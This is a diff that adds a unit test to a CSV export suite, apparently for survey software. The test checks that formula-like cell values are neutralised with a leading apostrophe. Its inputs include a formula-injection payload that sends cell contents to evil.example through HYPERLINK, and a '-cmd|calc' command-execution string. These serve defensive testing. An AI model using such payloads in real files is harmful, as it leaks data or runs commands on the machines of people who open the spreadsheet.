@@ -66,6 +66,33 @@ describe('CSV export', () => {
 		expect(parse(csv)[0].h_notes).toBe('Ани "Аня", Мартуни\nline 2');
 	});
 
+	it('makes a text a spreadsheet would run inert with a leading apostrophe; numbers and special codes stay as they are', () => {
+		const hostile = '=HYPERLINK("http://evil.example/?d="&A2,"open")';
+		const a = stored({
+			answers: {
+				...householdAnswers(),
+				h_notes: hostile,
+				sov_dest_other: '+1',
+				settlement_other: '@SUM(A1)',
+				resp_age: { special: 'refused' }
+			},
+			meta: { breakOff: { at: 'x', reason: '-cmd|calc' } }
+		});
+		const row = parse(tableCsv(forms, '', [a]))[0];
+		expect(row).toMatchObject({
+			h_notes: `'${hostile}`,
+			sov_dest_other: "'+1",
+			settlement_other: "'@SUM(A1)",
+			resp_age: '-2',
+			break_off_reason: "'-cmd|calc"
+		});
+		const members = parse(
+			tableCsv(forms, 'member', [stored({ answers: { ...householdAnswers(), member: [{ m_name: '\tTab', m_age: -0 }] } })])
+		);
+		expect(members[0]).toMatchObject({ m_name: "'\tTab", m_age: '0' });
+		expect(parse(tableCsv(forms, '', [stored({ answers: { ...householdAnswers(), h_notes: '＝1+1' } })]))[0].h_notes).toBe("'＝1+1");
+	});
+
 	it('names the enumerator and her sex as it was when the interview arrived, and tells a break-off apart, with where and why it stopped', () => {
 		const a = { ...stored(), enumeratorId: 'e1', enumeratorSex: 'female' as const };
 		const b = stored({
